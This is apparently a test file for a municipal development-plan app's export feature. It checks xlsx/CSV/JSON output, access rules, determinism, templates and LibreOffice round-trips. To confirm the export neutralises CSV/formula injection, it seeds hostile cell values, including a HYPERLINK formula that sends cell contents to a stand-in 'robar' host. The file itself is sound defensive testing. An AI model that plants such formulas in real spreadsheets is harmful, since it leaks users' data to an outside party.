import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import type ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inTenant, SYSTEM } from "../../src/db/tenant";
import { compareWorkbooks, readWorkbook } from "../../src/modules/export/compare";
import { ACTION_HEADER, STRATEGIC_HEADER } from "../../src/modules/export/matrix";
import { openDataSchema } from "../../src/modules/export/schemas";
import { exportPlanFile } from "../../src/modules/export/service";
import { TEMPLATE_HEADER } from "../../src/modules/export/template";
import { ENGINES } from "../support/databases";
import { startEditingWorld, type EditingWorld } from "../support/editing";

/**
 * Issue #6, the export half: the plan with its status as xlsx, CSV and JSON,
 * who may take what out, formula injection, determinism, the template, and
 * LibreOffice reading back what we wrote.
 */
const V = "/03301";
const HOSTILE_TITLE = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"Ver detalle")';
const HOSTILE_INDICATOR = "@SUM(1)";
const HOSTILE_SOURCE = "-2+3";
const HOSTILE_COMMENT = "\t=1";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const execFileAsync = promisify(execFile);

type Response = Awaited<ReturnType<EditingWorld["as"]["admin"]>>;

function cellsOf(wb: ExcelJS.Workbook) {
  const out: Array<{ sheet: string; address: string; cell: ExcelJS.Cell }> = [];
  for (const ws of wb.worksheets)
    ws.eachRow((row) =>
      row.eachCell((cell) => out.push({ sheet: ws.name, address: cell.address, cell })),
    );
  return out;
}

/** The number of the first row whose values satisfy the predicate. */
function rowNumber(ws: ExcelJS.Worksheet, test: (values: unknown[]) => boolean): number {
  let found = 0;
  ws.eachRow((row, n) => {
    if (!found && test((row.values as unknown[]).slice(1))) found = n;
  });
  return found;
}

function rowsOf(ws: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  ws.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

/** Converts xlsx files with LibreOffice (a separate profile per run) and returns the converted paths. */
async function throughLibreOffice(
  files: Record<string, Buffer>,
  inFilter?: string,
): Promise<Record<string, Buffer>> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rumbo-lo-"));
  const profile = `/tmp/lo-${randomBytes(6).toString("hex")}`;
  try {
    for (const [name, body] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), body);
    await execFileAsync(
      "/usr/bin/soffice",
      [
        `-env:UserInstallation=file://${profile}`,
        "--headless",
        ...(inFilter ? [`--infilter=${inFilter}`] : []),
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
        "--outdir",
        path.join(dir, "out"),
        ...Object.keys(files).map((n) => path.join(dir, n)),
      ],
      { timeout: 120_000 },
    );
    const out = (n: string) => n.replace(/\.csv$/, ".xlsx");
    return Object.fromEntries(
      Object.keys(files).map((n) => [n, fs.readFileSync(path.join(dir, "out", out(n)))]),
    );
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
    fs.rmSync(profile, { recursive: true, force: true });
  }
}

describe.each(ENGINES)("plan export on %s", (engine) => {
  let w: EditingWorld;
  let activity: { id: string; code: string };
  let axes = 0;
  let counts = { indicators: 0, measurements: 0, alerts: 0, items: 0 };

  const url = (query: string) => `${V}/plans/${w.planId}/export?${query}`;
  const workbook = async (res: Response) => {
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    return readWorkbook(res.rawPayload);
  };

  beforeAll(async () => {
    w = await startEditingWorld(engine);
    // Hostile texts in the data, as an editor could type them.
    await inTenant(w.t.database.owner.db, w.vallenarId, SYSTEM, async ({ trx }) => {
      activity = await trx
        .selectFrom("plan_item")
        .select(["id", "code"])
        .where("level_key", "=", "activity")
        .where("id", "in", (eb) => eb.selectFrom("indicator").select("item_id"))
        .orderBy("code")
        .executeTakeFirstOrThrow();
      await trx
        .updateTable("plan_item")
        .set({ title: HOSTILE_TITLE })
        .where("id", "=", activity.id)
        .execute();
      const indicator = await trx
        .selectFrom("indicator")
        .select("id")
        .where("item_id", "=", activity.id)
        .orderBy("sort")
        .executeTakeFirstOrThrow();
      await trx
        .updateTable("indicator")
        .set({ name: HOSTILE_INDICATOR, data_source: HOSTILE_SOURCE })
        .where("id", "=", indicator.id)
        .execute();
      await trx
        .updateTable("measurement")
        .set({ comment: HOSTILE_COMMENT })
        .where("status", "=", "validated")
        .where("id", "=", (eb) =>
          eb
            .selectFrom("measurement")
            .select("id")
            .where("status", "=", "validated")
            .orderBy("id")
            .limit(1),
        )
        .execute();
      const n = async (q: Promise<{ n: number | string | bigint }>) => Number((await q).n);
      counts = {
        indicators: await n(
          trx
            .selectFrom("indicator")
            .select((eb) => eb.fn.countAll().as("n"))
            .executeTakeFirstOrThrow() as Promise<{ n: number }>,
        ),
        measurements: await n(
          trx
            .selectFrom("measurement")
            .where("status", "=", "validated")
            .select((eb) => eb.fn.countAll().as("n"))
            .executeTakeFirstOrThrow() as Promise<{ n: number }>,
        ),
        alerts: await n(
          trx
            .selectFrom("alert")
            .select((eb) => eb.fn.countAll().as("n"))
            .executeTakeFirstOrThrow() as Promise<{ n: number }>,
        ),
        items: await n(
          trx
            .selectFrom("plan_item")
            .select((eb) => eb.fn.countAll().as("n"))
            .executeTakeFirstOrThrow() as Promise<{ n: number }>,
        ),
      };
      axes = (
        await trx.selectFrom("plan_item").select("id").where("parent_id", "is", null).execute()
      ).length;
    });
    expect(counts.measurements).toBeGreaterThan(0);
    expect(counts.alerts).toBeGreaterThan(0);
  }, 180_000);
  afterAll(async () => {
    await w?.t.close();
  });

  it("gives an anonymous visitor the published plan as xlsx: summary, one matrix per axis, indicators, measurements, no alerts", async () => {
    const res = await w.as.anonymous("GET", url("format=xlsx"));
    expect(res.headers["content-type"]).toBe(XLSX);
    expect(res.headers["content-disposition"]).toMatch(
      /^attachment; filename="pladeco-vallenar-\d{4}-\d{2}-\d{2}\.xlsx"/,
    );
    const wb = await workbook(res);
    const names = wb.worksheets.map((s) => s.name);
    expect(names[0]).toBe("Resumen");
    expect(names.slice(-2)).toEqual(["Indicadores", "Mediciones"]);
    expect(names).not.toContain("Alertas");
    expect(names.length).toBe(axes + 3);

    const summary = rowsOf(wb.getWorksheet("Resumen")!).map((r) => r.join(" | "));
    expect(summary.join("\n")).toMatch(/Datos simulados/);
    expect(summary.join("\n")).toMatch(/Municipalidad \| Vallenar \(CUT 03301\)/);

    const axis = wb.worksheets[1]!;
    expect(String(axis.getCell("A1").value)).toMatch(/^LINEAMIENTO 1: /);
    expect(rowsOf(axis)[1]).toEqual(STRATEGIC_HEADER);
    const rows = rowsOf(axis);
    const local = rows.findIndex((r) => String(r[0]).startsWith("OBJETIVO LOCAL: "));
    expect(local).toBeGreaterThan(1);
    expect(rows[local + 1]).toEqual(ACTION_HEADER);
    expect(axis.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(axis.model.merges.length).toBeGreaterThan(0);

    const indicators = wb.getWorksheet("Indicadores")!;
    expect(indicators.rowCount).toBe(counts.indicators + 1);
    expect(indicators.getRow(1).font?.bold).toBe(true);
    expect(indicators.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(indicators.autoFilter).toBeTruthy();
    expect(wb.getWorksheet("Mediciones")!.rowCount).toBe(counts.measurements + 1);
  });

  it("writes the dashboard's figures: the same statuses, progress and % de cumplimiento", async () => {
    const figures = (await w.as.anonymous("GET", `${V}/plans/${w.planId}/figures`)).json() as {
      groups: Array<{ dimension: string; progress: number | null }>;
      items: Array<{ itemId: string; status: string; progress: number | null }>;
    };
    const wb = await workbook(await w.as.anonymous("GET", url("format=xlsx")));
    const plan = figures.groups.find((g) => g.dimension === "plan")!;
    const compliance = rowsOf(wb.getWorksheet("Resumen")!).find(
      (r) => r[0] === "% de cumplimiento",
    )!;
    expect(compliance[1]).toBeCloseTo(plan.progress!, 9);

    // The activity's row in its axis sheet: status and progress as the dashboard has them.
    const mine = figures.items.find((i) => i.itemId === activity.id)!;
    const axis = wb.worksheets[Number(activity.code.split(".")[0])]!;
    const row = rowsOf(axis).find((r) => r[0] === activity.code)!;
    const label = {
      on_track: "En curso",
      at_risk: "En riesgo",
      off_track: "Atrasado",
      done: "Cumplido",
      no_data: "Sin datos",
    }[mine.status];
    expect(row[ACTION_HEADER.indexOf("ESTADO")]).toBe(label);
    if (mine.progress !== null)
      expect(row[ACTION_HEADER.indexOf("AVANCE %")]).toBeCloseTo(mine.progress, 9);
    const n = rowNumber(axis, (r) => r[0] === activity.code);
    const fill = axis.getRow(n).getCell(ACTION_HEADER.indexOf("ESTADO") + 1)
      .fill as ExcelJS.FillPattern;
    expect(fill.fgColor?.argb).toMatch(/^FF[0-9A-F]{6}$/);
  });

  it("neutralises every hostile text in xlsx and CSV, and keeps numbers as numbers", async () => {
    const wb = await workbook(await w.as.viewer("GET", url("format=xlsx")));
    const cells = cellsOf(wb);
    expect(cells.filter((c) => c.cell.type === 6 /* Formula */)).toEqual([]);
    const texts = cells.filter((c) => typeof c.cell.value === "string");
    expect(
      texts
        .filter((c) => /^[=+\-@\t\r]/.test(c.cell.value as string))
        .map((c) => `${c.sheet}!${c.address}`),
    ).toEqual([]);
    const values = new Set(texts.map((c) => c.cell.value));
    for (const hostile of [HOSTILE_TITLE, HOSTILE_INDICATOR, HOSTILE_SOURCE, HOSTILE_COMMENT])
      expect(values.has(`'${hostile}`), hostile).toBe(true);
    const progress = cells.filter(
      (c) => c.sheet === "Indicadores" && Number(c.cell.col) === 17 && Number(c.cell.row) !== 1,
    );
    expect(progress.length).toBeGreaterThan(0);
    expect(progress.every((c) => typeof c.cell.value === "number")).toBe(true);

    for (const table of ["items", "indicators", "measurements", "alerts"]) {
      const csv = await w.as.viewer("GET", url(`format=csv&table=${table}`));
      expect(csv.statusCode).toBe(200);
      const fields = csv.body
        .replace(/^\uFEFF/, "")
        .split(/;|\r\n/)
        .map((f) => f.replace(/^"/, ""));
      expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
    }
    const items = (await w.as.anonymous("GET", url("format=csv&table=items"))).body;
    expect(items).toContain(`"'${HOSTILE_TITLE.replace(/"/g, '""')}"`);
  });

  it("writes CSV for Excel in Chile: BOM, semicolons, decimal comma, one row per record", async () => {
    const res = await w.as.anonymous("GET", url("format=csv&table=indicators"));
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(res.headers["content-disposition"]).toMatch(/pladeco-vallenar-indicadores-.*\.csv"/);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = res.body.replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[0]).toMatch(/^CÓDIGO;INICIATIVA;INDICADOR;FÓRMULA;/);
    // Quoted multi-line fields aside, every record ends with CRLF; numbers use a decimal comma.
    expect(res.body).toMatch(/;\d+,\d+;/);
    expect(res.body).not.toMatch(/;\d+\.\d+;/);
    const items = await w.as.anonymous("GET", url("format=csv"));
    expect(items.headers["content-disposition"]).toMatch(/iniciativas/);
    const records = items.body.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter(Boolean);
    expect(records.length).toBe(counts.items + 1);
  });

  it("keeps alerts and the audit trail for members; anonymous visitors and outsiders get open data only", async () => {
    expect((await w.as.anonymous("GET", url("format=csv&table=alerts"))).statusCode).toBe(401);
    expect((await w.as.outsider("GET", url("format=csv&table=alerts"))).statusCode).toBe(403);
    const alerts = await w.as.viewer("GET", url("format=csv&table=alerts"));
    expect(alerts.statusCode).toBe(200);
    expect(alerts.body.split("\r\n").filter((l) => /^\d/.test(l)).length).toBeGreaterThan(0);

    const wb = await workbook(await w.as.validator("GET", url("format=xlsx")));
    expect(wb.getWorksheet("Alertas")!.rowCount).toBe(counts.alerts + 1);

    const open = await w.as.outsider("GET", url("format=json"));
    expect(open.statusCode).toBe(200);
    const doc = openDataSchema.parse(open.json());
    expect(doc.format).toBe("rumbo.plan/v1");
    expect(doc.history).toEqual([]);
    expect(doc.monitoring.alerts).toBeNull();
    expect(doc.monitoring.indicators.length).toBe(counts.indicators);
    expect(doc.monitoring.measurements.length).toBe(counts.measurements);
    expect(doc.monitoring.hasSimulated).toBe(true);
    expect(open.body).not.toMatch(/@\w+\.test\.cl/);

    const member = openDataSchema.parse((await w.as.admin("GET", url("format=json"))).json());
    expect(member.monitoring.alerts!.length).toBe(counts.alerts);
    expect(member.plan.items.length).toBe(axes);
  });

  it("hides unpublished plans from everyone outside the municipality", async () => {
    const f = w.freirina;
    const own = `/03302/plans/${f.planId}/export?format=xlsx`;
    expect((await w.as.anonymous("GET", own)).statusCode).toBe(404);
    expect((await w.as.viewer("GET", own)).statusCode).toBe(404);
    const outsider = await w.as.outsider("GET", own);
    expect(outsider.statusCode).toBe(200);
    // Another municipality's plan id under Vallenar's code is not found, whoever asks.
    const crossed = await w.as.admin("GET", `${V}/plans/${f.planId}/export?format=json`);
    expect(crossed.statusCode).toBe(404);
    expect(crossed.body).not.toContain("secreta");
    const bad = await w.as.admin("GET", url("format=pdf"));
    expect(bad.statusCode).toBe(400);
    expect(bad.headers["content-type"]).toMatch(/application\/problem\+json/);
  });

  it("is deterministic: the same data gives the same cells, whatever the day of export", async () => {
    const run = (iso: string) =>
      inTenant(w.t.database.db, w.vallenarId, SYSTEM, async ({ trx }) => {
        const file = await exportPlanFile(
          trx,
          w.vallenarId,
          w.planId,
          { format: "xlsx" },
          { member: true },
          new Date(iso),
        );
        return readWorkbook(file!.body as Buffer);
      });
    const first = await run("2026-11-22T15:00:00Z");
    const second = await run("2026-11-22T15:00:00Z");
    const later = await run("2027-01-05T15:00:00Z");
    expect(compareWorkbooks(first, second)).toEqual([]);
    expect(compareWorkbooks(first, later)).toEqual([]);
    expect(first.getWorksheet("Resumen")!.getCell("B4").value).toEqual(
      new Date("2026-11-22T00:00:00Z"),
    );
    expect(first.created).toEqual(new Date("2026-11-22T00:00:00Z"));
    // The comparison is not vacuous: one changed title is found, with its sheet and cell.
    first.worksheets[1]!.getCell("B4").value = "Otro objetivo";
    expect(compareWorkbooks(first, second)[0]).toMatch(/^Hoja '1 [^']+', celda B4: /);
  });

  it("serves the template to those who edit the plan, with drop-downs from the hidden Listas sheet", async () => {
    const path_ = `${V}/plans/${w.planId}/template.xlsx`;
    expect((await w.as.anonymous("GET", path_)).statusCode).toBe(401);
    expect((await w.as.viewer("GET", path_)).statusCode).toBe(403);
    expect((await w.as.outsider("GET", path_)).statusCode).toBe(403);
    const res = await w.as.editor("GET", path_);
    expect(res.headers["content-disposition"]).toMatch(/pladeco-vallenar-plantilla-.*\.xlsx"/);
    const wb = await workbook(res);
    expect(wb.worksheets.map((s) => [s.name, s.state])).toEqual([
      ["Plantilla", "visible"],
      ["Instrucciones", "visible"],
      ["Listas", "hidden"],
    ]);
    const sheet = wb.getWorksheet("Plantilla")!;
    expect(rowsOf(sheet)).toEqual([[...TEMPLATE_HEADER]]);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    const col = (name: (typeof TEMPLATE_HEADER)[number]) => TEMPLATE_HEADER.indexOf(name) + 1;
    const responsible = sheet.getRow(2).getCell(col("RESPONSABLE")).dataValidation;
    expect(responsible).toMatchObject({ type: "list", errorStyle: "warning" });
    expect(responsible.formulae[0]).toMatch(/^Listas!\$A\$2:\$A\$\d+$/);
    expect(sheet.getRow(500).getCell(col("PERIODICIDAD")).dataValidation).toMatchObject({
      type: "list",
      errorStyle: "stop",
      formulae: ["Listas!$D$2:$D$5"],
    });
    expect(sheet.getRow(2).getCell(col("ODS")).dataValidation.formulae[0]).toBe(
      "Listas!$C$2:$C$18",
    );
    const lists = rowsOf(wb.getWorksheet("Listas")!);
    const units = lists
      .slice(1)
      .map((r) => r[0])
      .filter(Boolean);
    const mine = await w.t.database.owner.db
      .selectFrom("org_unit")
      .select("name")
      .where("municipality_id", "=", w.vallenarId)
      .execute();
    expect(new Set(units)).toEqual(new Set(mine.map((u) => u.name)));
    expect(units.join()).not.toContain("Freirina");
    expect(lists.map((r) => r[2])).toContain("3 – Salud y bienestar");
    expect(lists.map((r) => r[3]).slice(1, 5)).toEqual([
      "Mensual",
      "Trimestral",
      "Semestral",
      "Anual",
    ]);
    expect(lists.map((r) => r[1])).toContain(
      (
        await w.t.database.owner.db
          .selectFrom("funding_source")
          .select("name")
          .orderBy("sort")
          .executeTakeFirstOrThrow()
      ).name,
    );
  });

  it("fills the template with the plan as it is: one row per activity and indicator, with codes", async () => {
    const res = await w.as.admin("GET", `${V}/plans/${w.planId}/template.xlsx?filled=true`);
    const wb = await workbook(res);
    const rows = rowsOf(wb.getWorksheet("Plantilla")!).slice(1);
    const col = (name: (typeof TEMPLATE_HEADER)[number]) => TEMPLATE_HEADER.indexOf(name);
    expect(rows.length).toBeGreaterThanOrEqual(counts.indicators);
    const mine = rows.filter((r) => r[col("CÓDIGO")] === activity.code);
    expect(mine.length).toBeGreaterThan(0);
    expect(mine[0]![col("ACTIVIDAD")]).toBe(`'${HOSTILE_TITLE}`);
    expect(mine[0]![col("INDICADOR")]).toBe(`'${HOSTILE_INDICATOR}`);
    expect(["Mensual", "Trimestral", "Semestral", "Anual"]).toContain(
      mine[0]![col("PERIODICIDAD")],
    );
    expect(rows.every((r) => typeof r[col("EJE")] === "string")).toBe(true);
    // A value of filled other than true or false is refused.
    const bad = await w.as.admin("GET", `${V}/plans/${w.planId}/template.xlsx?filled=si`);
    expect(bad.statusCode).toBe(400);
  });

  it("is opened by LibreOffice, which reads back the same values (export and template)", async () => {
    const exported = await w.as.admin("GET", url("format=xlsx"));
    const template = await w.as.admin("GET", `${V}/plans/${w.planId}/template.xlsx?filled=true`);
    expect(exported.statusCode).toBe(200);
    expect(template.statusCode).toBe(200);
    const converted = await throughLibreOffice({
      "export.xlsx": exported.rawPayload,
      "template.xlsx": template.rawPayload,
    });
    const original = await readWorkbook(exported.rawPayload);
    const reread = await readWorkbook(converted["export.xlsx"]!);
    expect(compareWorkbooks(original, reread)).toEqual([]);
    // Not vacuous: codes, statuses and numbers are there after the round trip.
    const axis = rowsOf(reread.worksheets[1]!);
    expect(axis.some((r) => r[0] === activity.code)).toBe(true);
    expect(rowsOf(reread.getWorksheet("Indicadores")!).length).toBe(counts.indicators + 1);
    const templateBack = await readWorkbook(converted["template.xlsx"]!);
    expect(compareWorkbooks(await readWorkbook(template.rawPayload), templateBack)).toEqual([]);
    expect(rowsOf(templateBack.getWorksheet("Plantilla")!)[0]).toEqual([...TEMPLATE_HEADER]);
  }, 120_000);

  it("is read by LibreOffice set up for Chile as CSV: accents, numbers with a decimal comma, inert texts", async () => {
    const csv = await w.as.viewer("GET", url("format=csv&table=measurements"));
    const json = openDataSchema.parse((await w.as.viewer("GET", url("format=json"))).json());
    // Separator ;, quote ", UTF-8 (76), first line 1, language es-CL (13322).
    const converted = await throughLibreOffice(
      { "mediciones.csv": csv.rawPayload },
      "Text - txt - csv (StarCalc):59,34,76,1,,13322",
    );
    const rows = rowsOf((await readWorkbook(converted["mediciones.csv"]!)).worksheets[0]!);
    expect(rows[0]).toEqual([
      "CÓDIGO",
      "INDICADOR",
      "PERÍODO",
      "DESDE",
      "HASTA",
      "VALOR",
      "VALIDADA EL",
      "COMENTARIO",
      "SIMULADA",
    ]);
    expect(rows.length).toBe(counts.measurements + 1);
    const values = rows.slice(1).map((r) => r[5] ?? null);
    expect(values).toEqual(json.monitoring.measurements.map((m) => m.value));
    expect(values.some((v) => typeof v === "number" && !Number.isInteger(v))).toBe(true);
    expect(rows.some((r) => r[7] === `'${HOSTILE_COMMENT}`)).toBe(true);
  }, 120_000);
});
